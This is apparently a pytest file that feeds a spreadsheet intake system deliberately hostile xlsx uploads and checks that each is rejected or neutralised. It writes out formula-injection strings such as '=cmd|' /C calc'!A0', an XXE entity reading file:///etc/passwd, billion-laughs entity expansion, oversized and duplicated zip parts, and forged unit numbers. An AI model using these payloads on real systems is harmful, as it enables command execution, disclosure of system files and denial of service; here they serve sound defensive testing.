"""Faults 109 to 114: what somebody sends on purpose."""

from __future__ import annotations

import io
import random
import re
import warnings
from collections.abc import Callable, Iterator
from functools import cache
from urllib.parse import unquote
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from openpyxl.workbook import Workbook

from tests.faults.fault import PATH, Expected, Fault, assert_fault, spoilt
from tests.support.offices import FIRST, SECOND, Office
from tests.support.spoiling import edited, parts, with_part, with_parts

pytestmark = pytest.mark.long

DICE = random.Random(16384)
TASKS = "任务分解表"
SHEET, STRINGS, BOOK = "xl/worksheets/sheet2.xml", "xl/sharedStrings.xml", "xl/workbook.xml"
COUNT, SCORE, REMARK, POINTS = "C23", "G22", "H22", "E22"
NOTED = "accepted_with_notes"
UNSAFE = ("file-unsafe", None)
FORMULAS = (
    '=HYPERLINK("http://example.com/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "http://example.com/a",
    "mailto:a@example.com",
    "internal:报送情况!A1",
    "external:c:\\a.xlsx",
    "{=1+1}",
)
EXTERNAL = re.compile(rb'Target="([^"]*)" TargetMode="External"')
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a0 "哈">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 9)) + "]>"
)
LAUGHING = f"{LAUGHS}<sst><si><t>&a8;</t></si></sst>".encode()
CORNER = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
FILE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


def adding(*names: str) -> Callable[[bytes], bytes]:
    return lambda good: with_parts(good, dict.fromkeys(names, b"<x/>"))


def with_dtd(part: str, dtd: str) -> Callable[[bytes], bytes]:
    """Declare a DTD after the declaration of XML."""
    return lambda good: with_part(
        good, part, lambda text: re.sub(r"^(<\?xml[^>]*\?>)?", lambda found: found[0] + dtd, text, count=1)
    )


def with_formula(formula: str, result: str) -> Callable[[bytes], bytes]:
    cell = f'<c r="{REMARK}" t="str"><f>{formula}</f><v>{result}</v></c>'
    return lambda good: with_part(good, SHEET, lambda text: re.sub(rf'<c r="{REMARK}"[^>]*/>', cell, text))


def with_rows(rows: Callable[[], Iterator[str]]) -> Callable[[bytes], bytes]:
    """Add rows after the sheet's own."""
    return lambda good: with_part(
        good, SHEET, lambda text: text.replace("</sheetData>", "".join(rows()) + "</sheetData>")
    )


def empty_rows() -> Iterator[str]:
    return (f'<row r="{n}" s="3" customFormat="1"/>' for n in range(1001, 1_048_577))


def cells() -> Iterator[str]:
    dice = random.Random(1)
    return (
        f'<row r="{n}">{"".join(f"<c><v>{dice.random()}</v></c>" for _ in range(300))}</row>' for n in range(200, 1000)
    )


def styled(last: int, columns: int, dice: random.Random) -> Callable[[bytes], bytes]:
    """Apply a format to whole rows: each cell that has none of its own gets one without a value, as Excel and WPS store it."""

    def more(row: re.Match[str]) -> str:
        number, held = int(row[1]), set(re.findall(r'<c r="([A-Z]+)', row[0]))
        blank = "".join(
            f'<c r="{letters(no)}{number}" s="{dice.randrange(9)}"/>'
            for no in range(20, columns + 1)
            if letters(no) not in held
        )
        return row[0].removesuffix("</row>") + blank + "</row>"

    def spoil(text: str) -> str:
        changed = re.sub(r'<row r="(\d+)"[^>]*(?<!/)>.*?</row>', more, text, flags=re.DOTALL)
        own = max(map(int, re.findall(r'<row r="(\d+)"', text)))
        after = "".join(
            f'<row r="{n}">{"".join(f"<c r=`{letters(no)}{n}` s=`1`/>" for no in range(1, columns + 1))}</row>'.replace(
                "`", '"'
            )
            for n in range(own + 1, last + 1)
        )
        return changed.replace("</sheetData>", f"{after}</sheetData>")

    return lambda good: with_part(good, SHEET, spoil)


@cache
def letters(column: int) -> str:
    before, rest = divmod(column - 1, 26)
    return (letters(before) if before else "") + chr(ord("A") + rest)


def large_part(good: bytes) -> bytes:
    return with_parts(good, {"xl/a.bin": random.Random(1).randbytes(4_000_000) + bytes(36_000_000)})


def spaces(good: bytes) -> bytes:
    return with_part(good, SHEET, lambda text: text + " " * 100_000_000)


def twice(name: str, again: str) -> Callable[[bytes], bytes]:
    """Put a part in a second time, with another content."""

    def spoil(good: bytes) -> bytes:
        made = io.BytesIO()
        held = parts(good)
        with ZipFile(made, "w", ZIP_DEFLATED) as archive, warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns of the very fault
            for each, data in (*held.items(), (again, held[name].replace(b"<v>1</v>", b"<v>2</v>"))):
                archive.writestr(each, data)
        return made.getvalue()

    return spoil


def typed(cell: str, value: float) -> Callable[[bytes], bytes]:
    def edit(book: Workbook) -> None:
        book[TASKS][cell] = value

    return lambda good: edited(good, edit)


def renumbered(good: bytes, old: str, new: str) -> bytes:
    """Type over a text wherever it stands in the cells."""

    def edit(book: Workbook) -> None:
        for sheet in book:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and old in cell.value:
                        cell.value = cell.value.replace(old, new)

    return edited(good, edit)


def forged(office: Office) -> None:
    number = office.forms[FIRST].number
    office.receive(PATH, renumbered(office.filled(FIRST), number, number[:-1] + ("A" if number[-1] != "A" else "B")))


def as_another_unit(office: Office) -> None:
    """Type another unit's genuine number over the own one."""
    office.receive(PATH, renumbered(office.filled(FIRST), office.forms[FIRST].number, office.forms[SECOND].number))


def as_another_unit_throughout(office: Office) -> None:
    """Type another unit's name over the own one as well; the document's properties stay as they were."""
    numbered = renumbered(office.filled(FIRST), office.forms[FIRST].number, office.forms[SECOND].number)
    names = {unit.short: unit.name for unit in office.notice.units}
    office.receive(PATH, renumbered(numbered, names[FIRST], names[SECOND]))


def refused(no: int, what: str, receive: Callable[[Office], None], code: str) -> Fault:
    expected = Expected(status="rejected", found=((code, None),), unit=None)
    return Fault(no=no, what=what, receive=receive, expect={PATH: expected})


FAULTS: tuple[Fault, ...] = (
    spoilt(109, "a link as a formula", with_formula('HYPERLINK("http://example.com","点")', "点"), NOTED, ("value-from-formula", REMARK)),
    spoilt(110, "macros", adding("xl/vbaProject.bin"), NOTED, ("macros-inside", None)),
    spoilt(110, "embedded object", adding("xl/embeddings/oleObject1.bin"), NOTED, ("outside-data", None)),
    spoilt(110, "ActiveX", adding("xl/activeX/activeX1.xml", "xl/activeX/activeX1.bin"), NOTED, ("outside-data", None)),
    spoilt(110, "DDE", adding("xl/externalLinks/externalLink1.xml"), NOTED, ("outside-data", None)),
    spoilt(110, "data connection", adding("xl/connections.xml", "xl/queryTables/queryTable1.xml"), NOTED, ("outside-data", None)),
    spoilt(110, "WEBSERVICE", with_formula('WEBSERVICE("http://example.com")', "答"), NOTED, ("value-from-formula", REMARK)),
    spoilt(111, "billion laughs in a sheet", with_dtd(SHEET, LAUGHS), "rejected", UNSAFE),
    spoilt(111, "billion laughs in the texts", lambda good: with_parts(good, {STRINGS: LAUGHING}), "rejected", UNSAFE),
    spoilt(111, "a file of this machine", with_dtd(BOOK, FILE), "rejected", UNSAFE),
    spoilt(111, "a DTD beside the cells", with_dtd("docProps/custom.xml", FILE), "rejected", UNSAFE),
    spoilt(112, "one value in the last corner", with_rows(lambda: iter([CORNER])), NOTED, ("cells-outside", None)),
    spoilt(112, "a million formatted rows", with_rows(empty_rows), "accepted"),
    *(
        spoilt(112, f"formats out to {letters(columns)}{last}", styled(last, columns, DICE), "accepted")
        for last, columns in ((30, 16384), (200, 16384), (5000, 100), (DICE.randrange(40, 90), DICE.randrange(9000, 16384)))
    ),
    spoilt(112, "a quarter of a million cells", with_rows(cells), "rejected", UNSAFE),
    spoilt(112, "a gigabyte of spaces", spaces, "rejected", UNSAFE),
    spoilt(112, "a part of 40 MB", large_part, "rejected", UNSAFE),
    spoilt(112, "2001 parts", lambda good: with_parts(good, {f"a{n}": b"" for n in range(2001)}), "rejected", UNSAFE),
    spoilt(113, "a sheet twice", twice(SHEET, SHEET), "rejected", UNSAFE),
    spoilt(113, "a sheet twice by its case", twice(SHEET, SHEET.upper()), "rejected", UNSAFE),
    spoilt(113, "a sheet twice by its slashes", twice(SHEET, SHEET.replace("/", "\\")), "rejected", UNSAFE),
    spoilt(113, "a sheet twice by its root", twice(SHEET, f"/{SHEET}"), "rejected", UNSAFE),
    spoilt(113, "a sheet twice by its folder", twice(SHEET, f"./{SHEET}"), "rejected", UNSAFE),
    refused(114, "a made-up check code", forged, "form-forged"),
    refused(114, "another unit's number", as_another_unit, "form-contradiction"),
    refused(114, "another unit's number and name", as_another_unit_throughout, "property-other-unit"),
)  # fmt: skip


@pytest.mark.parametrize("fault", FAULTS, ids=str)
def test_fault(office: Office, fault: Fault, times: int) -> None:
    """Each fault sets off exactly what is written beside it."""
    assert_fault(office, fault, times)


def test_forged_points(office: Office) -> None:
    """Fault 114: points that a unit wrote over count for nothing, neither as the sub-point's worth nor as its limit."""
    office.receive(PATH, office.filled(FIRST))
    office.collect()
    honest = office.unit(FIRST)
    office.receive(PATH, typed(POINTS, 10)(office.filled(FIRST)))
    for _ in range(2):
        office.collect()
        assert office.unit(FIRST) == honest


def test_a_score_beyond_the_points(office: Office) -> None:
    """Fault 114: a self-score beyond the issued points is sent back, whatever the points in the file say."""
    spoil = typed(SCORE, 10)
    office.receive(PATH, typed(POINTS, 10)(spoil(office.filled(FIRST))))
    office.collect()

    assert ("number-wrong", SCORE) in {(found["code"], found["cell"]) for found in office.file(PATH)["findings"]}
    assert office.file(PATH)["status"] == "needs_correction"


def test_what_is_typed_never_becomes_a_formula(office: Office) -> None:
    """Fault 109: a text that a program would take for a formula or a link stands in the ranking workbook as text, and nothing else."""
    fields = [key for key in office.forms[FIRST].shape.fields if key.endswith(".填报")]
    typed = dict(zip(fields, FORMULAS, strict=False))
    assert len(typed) == len(FORMULAS)
    office.receive(PATH, office.filled(FIRST, {**office.good(FIRST), **typed, "15.6.说明": FORMULAS[0]}))
    office.collect()
    book = office.ranking
    cells = [cell for sheet in book.sheets.values() for cell in sheet.cells.values()]
    shown = [cell for cell in cells if cell.text and any(text.strip() in cell.text for text in FORMULAS)]

    assert all(any(text.strip() in (cell.text or "") for cell in shown) for text in FORMULAS)
    assert {(cell.kind, cell.formula) for cell in shown} == {("s", None)}
    outside = {unquote(each.decode()) for part in book.parts.values() for each in EXTERNAL.findall(part)}
    copies = {f"..\\存档\\{path.name}" for path in office.space.archive.glob("*.xlsx")}
    assert {each.partition("#")[0] for each in outside} == {
        *copies,
        "..\\审核\\审核表.xlsx",
        f"反馈单\\02_{FIRST}_反馈单.xlsx",
    }
    assert not [each for each in outside if any(text.strip() in each for text in FORMULAS)]
    assert not [cell for cell in cells if cell.formula and ("HYPERLINK" in cell.formula or "cmd" in cell.formula)]
